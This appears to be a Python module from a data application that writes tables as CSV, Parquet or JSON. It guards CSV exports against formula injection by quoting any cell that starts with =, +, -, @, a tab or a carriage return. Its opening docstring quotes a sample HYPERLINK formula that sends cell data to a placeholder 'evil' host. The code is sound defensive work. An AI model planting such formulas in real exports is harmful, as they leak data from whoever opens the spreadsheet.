"""Table export as CSV, Parquet or JSON: the one writer behind every download button and the reports' data files.

A CSV is opened in a spreadsheet, which runs a cell starting with ``=``, ``+``, ``-`` or ``@``
as a formula (OWASP's list adds a leading tab or carriage return, which some spreadsheets skip
before reading the rest). Usernames, label values, targets and event text come from whoever can
write them, so ``=HYPERLINK("http://evil/?"&A1, "click")`` in an audit row would be a live
link (or worse) on the auditor's machine. Every text cell starting with one of those
characters is written with a leading ``'``, which spreadsheets read as "this is text" and do
not show (CSV injection, as OWASP describes it). Numbers are left alone: ``-5`` stays a number.
Parquet and JSON are read by programs, not spreadsheets, so their cells are written as they are.

Times are written as UTC ISO 8601 with milliseconds (``2025-08-17T06:23:14.000Z``) in CSV and JSON; a list or
struct cell (a table's sparkline values) is written to CSV as its JSON text.

Large tables are written in slices of :data:`CHUNK_ROWS` rows (:func:`chunks`), so a download or a
file never needs the whole encoded text in memory at once; Parquet is written by polars straight
to the file or buffer it is given.
"""

from __future__ import annotations

import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import BinaryIO

import polars as pl

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ISO_UTC = "%Y-%m-%dT%H:%M:%S%.3fZ"
FORMATS = {"csv": "text/csv", "parquet": "application/vnd.apache.parquet", "json": "application/json"}
CHUNK_ROWS = 50_000


def neutralise(column: pl.Expr) -> pl.Expr:
    """A text column with ``'`` put before every value a spreadsheet would run as a formula."""
    text = column.cast(pl.String)
    risky = pl.any_horizontal(text.str.starts_with(start) for start in FORMULA_STARTS)
    return pl.when(risky).then(pl.lit("'") + text).otherwise(text)


def _times(name: str, dtype: pl.DataType) -> pl.Expr:
    column = pl.col(name)
    if isinstance(dtype, pl.Datetime):
        utc = column.dt.convert_time_zone("UTC") if dtype.time_zone else column  # naive times are UTC in the store
        return utc.dt.strftime(ISO_UTC).alias(name)
    return column


def _cell(name: str, dtype: pl.DataType) -> pl.Expr:
    if dtype in (pl.String, pl.Categorical) or isinstance(dtype, pl.Enum):
        return neutralise(pl.col(name)).alias(name)
    if isinstance(dtype, pl.List | pl.Array | pl.Struct):  # a sparkline's values: JSON text in one cell
        as_struct = pl.struct(pl.col(name).alias("v")) if not isinstance(dtype, pl.Struct) else pl.col(name)
        text = as_struct.struct.json_encode()
        text = text if isinstance(dtype, pl.Struct) else text.str.slice(5).str.strip_suffix("}")
        return pl.when(pl.col(name).is_not_null()).then(neutralise(text)).alias(name)
    return _times(name, dtype)


def csv_safe(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with times as ISO text and formula-looking text cells neutralised (what a CSV file holds)."""
    return frame.select(_cell(name, dtype) for name, dtype in frame.schema.items())


def csv_bytes(frame: pl.DataFrame) -> bytes:
    """``frame`` as UTF-8 CSV for a download button, with formula-looking text cells neutralised."""
    return csv_safe(frame).write_csv().encode()


def _json_ready(frame: pl.DataFrame) -> pl.DataFrame:
    return frame.select(_times(name, dtype) for name, dtype in frame.schema.items())


def chunks(frame: pl.DataFrame, fmt: str, rows: int = CHUNK_ROWS) -> Iterator[bytes]:
    """``frame`` encoded as ``fmt`` (csv, json: an array of row objects, parquet) in pieces of ``rows`` rows.

    CSV and JSON are encoded one slice at a time; Parquet is one piece (its footer needs every row group).
    """
    if fmt not in FORMATS:
        raise ValueError(f"format {fmt!r}: use one of {', '.join(FORMATS)}")
    if fmt == "parquet":
        buffer = io.BytesIO()
        frame.write_parquet(buffer, row_group_size=rows)
        yield buffer.getvalue()
        return
    if fmt == "csv":
        for offset in range(0, max(frame.height, 1), rows):
            part = csv_safe(frame.slice(offset, rows))
            yield part.write_csv(include_header=offset == 0).encode()
        return
    yield b"["
    for offset in range(0, frame.height, rows):
        text = _json_ready(frame.slice(offset, rows)).write_json()  # a JSON array of row objects
        inner = text.strip()[1:-1]
        if inner:
            yield (b"," if offset else b"") + inner.encode()
    yield b"]"


def data_bytes(frame: pl.DataFrame, fmt: str) -> bytes:
    """The whole export in memory (a download button needs bytes); see :func:`chunks` for files and streams."""
    return b"".join(chunks(frame, fmt))


def write(frame: pl.DataFrame, fmt: str, target: Path | BinaryIO) -> int:
    """Write ``frame`` as ``fmt`` to a path (atomically: a temporary file renamed into place) or an open binary
    stream, piece by piece; returns the bytes written."""
    if isinstance(target, Path):
        partial = target.with_name(target.name + ".partial")
        with partial.open("wb") as out:
            size = write(frame, fmt, out)
        partial.replace(target)
        return size
    size = 0
    for piece in chunks(frame, fmt):
        target.write(piece)
        size += len(piece)
    return size


def read_back(data: bytes, fmt: str) -> pl.DataFrame:
    """Parse an export (tests and the round trip check): the inverse of :func:`data_bytes` up to cell types."""
    if fmt == "parquet":
        return pl.read_parquet(io.BytesIO(data))
    if fmt == "csv":
        return pl.read_csv(io.BytesIO(data))
    rows = json.loads(data)
    return pl.DataFrame(rows, infer_schema_length=None) if rows else pl.DataFrame()


__all__ = ["FORMATS", "FORMULA_STARTS", "chunks", "csv_bytes", "csv_safe", "data_bytes", "neutralise", "write"]
